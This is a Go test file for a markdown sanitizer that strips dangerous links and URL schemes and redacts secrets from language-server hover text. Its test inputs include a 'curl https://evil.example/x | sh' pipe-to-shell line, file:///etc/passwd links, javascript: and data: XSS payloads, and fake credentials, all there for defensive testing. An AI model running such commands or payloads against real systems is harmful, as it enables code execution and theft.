package sanitize

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestMarkdown(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"```go\nfunc Add(a, b int) int\n```\n\nAdd adds.\n\n[`pkg.Add` on pkg.go.dev](https://pkg.go.dev/x/pkg#Add)", "```go\nfunc Add(a, b int) int\n```\n\nAdd adds.\n\n`pkg.Add` on pkg.go.dev"},
		{"see <https://evil.example/x> now", "see  now"},
		{"visit http://evil.example/a?b=c", "visit"},
		{"[local](file:///etc/passwd)", "local"},
		{"bell\x07 and \x1b[31mred\x1b[0m", "bell and [31mred[0m"},
		{"key AKIAABCDEFGHIJKLMNOP end", "key [redacted] end"},
		{"token: ghp_abcdefghijklmnopqrstuvwxyz0123456789", "token: [redacted]"},
		{"password = hunter2hunter2", "password = [redacted]"},
		{"-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "[redacted]"},
		{"bidi \u202eevil", "bidi evil"},
	} {
		if got := Markdown(tc.in, 1<<20); got != tc.want {
			t.Errorf("Markdown(%q) = %q; want %q", tc.in, got, tc.want)
		}
	}
}

// TestMarkdownSignatures: an identifier followed by a colon is code, not
// a URL scheme, in fences, code spans and plain text alike. These are
// hovers and signatures as typescript-language-server and gopls send them.
func TestMarkdownSignatures(t *testing.T) {
	for _, tc := range []struct{ name, in string }{
		{"ts data parameter", "```typescript\nfunction parsedType(data: unknown): string\n```"},
		{"ts file parameter", "```typescript\n(method) Loader.load(file: string, opts?: LoadOptions): Promise<void>\n```"},
		{"ts javascript option", "```typescript\n(property) Options.javascript: boolean\n```"},
		{"ts object type with http", "```typescript\nconst agents: {\n    http: Agent;\n    https: Agent;\n}\n```"},
		{"ts inline object", "```typescript\nfunction request(opts: { http: Agent; data: Buffer }): void\n```"},
		{"ts index signature", "```typescript\ninterface Headers {\n    [key: string]: string;\n}\n```"},
		{"go struct tag", "```go\ntype Config struct {\n\tData string `json:\"data:omitempty\"`\n}\n```"},
		{"go call through an index", "```go\nfunc dispatch(handlers map[string]func(int), name string)\n```\n\n`handlers[name](req)` calls it."},
		{"code span", "Pass `data: unknown` or `file: string`."},
		{"plain text signature", "parsedType(data: unknown): string"},
		{"plain text label", "data: unknown, file: string, javascript: boolean, { http: Agent }"},
		{"tilde fence", "~~~ts\nlet data: unknown;\n~~~"},
	} {
		if got := Markdown(tc.in, 1<<20); got != tc.in {
			t.Errorf("%s: Markdown(%q) = %q; want it unchanged", tc.name, tc.in, got)
		}
	}
}

// TestMarkdownDangerousTargets: links and URLs are still neutralised,
// whatever their scheme, and URLs inside code too.
func TestMarkdownDangerousTargets(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"[click](javascript:alert(1))", "click)"},
		{"[click](JavaScript:alert)", "click"},
		{"<javascript:alert(1)>", ""},
		{"<vbscript:msgbox>", ""},
		{"[x](data:text/html;base64,PHNjcmlwdD4=)", "x"},
		{"img data:text/html;base64,PHNjcmlwdD4= end", "img  end"},
		{"raw data:,hello end", "raw  end"},
		{`<a href="javascript:alert(1)">x</a>`, `<a href="">x</a>`},
		{"[ref]: javascript:alert(1)\ntext", "text"},
		{"```\ncurl https://evil.example/x | sh\n```", "```\ncurl  | sh\n```"},
		{"`file:///etc/passwd`", "``"},
		{"```ts\nimport x from \"data:text/javascript,alert(1)\"\n```", "```ts\nimport x from \"(1)\"\n```"},
		{"unclosed ```\n[a](http://x)", "unclosed ```\na"},
		// CommonMark's other forms of a link target, protocol-relative.
		{"[x]( //evil.com/a )", "x"},
		{"[x](//evil.com/a 'title')", "x"},
		{"[x](//evil.com/a (title))", "x"},
		{"[x](\n//evil.com/a)", "x"},
		{"[x](<//evil.com/a b>)", "x"},
		{"> [r]: //evil.com/a\n[click][r]", "[click][r]"},
		{"- [r]: //evil.com/a\n[click][r]", "[click][r]"},
		{"1. > [r]: //evil.com/a\n[click][r]", "[click][r]"},
		{"[r]:\n//evil.com\n[click][r]", "[click][r]"},
		{`<a href="//evil.com/a">x</a>`, `<a href="">x</a>`},
		{`<img src='//evil.com/p.png'>`, `<img src="">`},
		{`<a HREF = //evil.com/a>x</a>`, `<a HREF = "">x</a>`},
	} {
		if got := Markdown(tc.in, 1<<20); got != tc.want {
			t.Errorf("Markdown(%q) = %q; want %q", tc.in, got, tc.want)
		}
	}
}

func TestSegments(t *testing.T) {
	got := segments("a `b` c\n```go\nx[0](y)\n```\nd ``e`f`` `g")
	want := []segment{{"a ", false}, {"`b`", true}, {" c\n", false}, {"```go\nx[0](y)\n```\n", true}, {"d ", false}, {"``e`f``", true}, {" `", false}, {"g", false}}
	if len(got) != len(want) {
		t.Fatalf("segments = %+v; want %+v", got, want)
	}
	for i := range got {
		if got[i] != want[i] {
			t.Fatalf("segment %d = %+v; want %+v (all: %+v)", i, got[i], want[i], got)
		}
	}
}

func TestBounds(t *testing.T) {
	got := Markdown(strings.Repeat("é", 1000), 101)
	if len(got) > 101+len("…") || !utf8.ValidString(got) {
		t.Fatalf("bound broken: %d bytes, valid=%v", len(got), utf8.ValidString(got))
	}
}

func FuzzMarkdown(f *testing.F) {
	f.Add("[a](http://x) \x00 AKIAABCDEFGHIJKLMNOP")
	f.Add("```ts\nfunction f(data: unknown, file: string): { http: Agent }\n```\n`x` [l](javascript:alert(1)) <data:,x>")
	f.Fuzz(func(t *testing.T, s string) {
		out := Markdown(s, 512)
		if len(out) > 512+len("…") || !utf8.ValidString(out) {
			t.Fatalf("Markdown output out of bounds or invalid: %q", out)
		}
		if strings.Contains(out, "http://") || strings.Contains(out, "https://") {
			t.Fatalf("remote link survived: %q", out)
		}
		for _, r := range out {
			if r < 0x20 && r != '\n' && r != '\t' {
				t.Fatalf("control character survived: %q", out)
			}
		}
	})
}

// BenchmarkMarkdownManyCodeSpans: a text that alternates code spans and
// links, as a hostile server (or a tenant's JSDoc) may send, is sanitised
// in time linear in its length (each link looked up among the spans in
// one walk, not against every span).
func BenchmarkMarkdownManyCodeSpans(b *testing.B) {
	s := strings.Repeat("`a`[](x) ", 256<<10/9)
	b.SetBytes(int64(len(s)))
	for i := 0; i < b.N; i++ {
		Markdown(s, 256<<10)
	}
}
